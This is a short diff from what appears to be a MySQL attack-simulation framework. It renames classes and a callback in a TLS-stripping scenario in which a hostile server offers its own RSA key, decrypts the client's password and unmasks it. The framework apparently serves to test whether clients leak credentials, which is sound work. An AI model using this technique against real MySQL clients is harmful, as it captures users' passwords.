@@ -8,10 +8,10 @@ from backwatch.attack.clients.pymysql import PyMySQL
 from backwatch.attack.demo.services.mysql import SALT, Packets
 from backwatch.attack.protocols.server import SECRET
 from backwatch.attack.scenarios import Run
-from backwatch.attack.techniques.mysql_tls import PROOF_REFUSED, ForgetsTls, Stripping
+from backwatch.attack.techniques.mysql_tls import PROOF_REFUSED, ForgetsTls, TlsStrippingMySQL
 
 
-class OwnKey(Stripping):
+class OwnKey(TlsStrippingMySQL):
     """Offers no TLS, but a key of its own to send the password under, once hostile."""
 
     def __init__(self, authority: Authority, port: int = 0) -> None:
@@ -31,7 +31,7 @@ class OwnKey(Stripping):
         wire.send(b"\x01" + public)
         oaep = padding.OAEP(padding.MGF1(hashes.SHA1()), hashes.SHA1(), None)  # noqa: S303  the plugin's protocol requires it
         masked = self._key.decrypt(wire.receive(), oaep)
-        self.taken(bytes(a ^ SALT[i % len(SALT)] for i, a in enumerate(masked)).rstrip(b"\0"))
+        self.on_leak(bytes(a ^ SALT[i % len(SALT)] for i, a in enumerate(masked)).rstrip(b"\0"))
 
 
 class KeyFromServer(ForgetsTls):
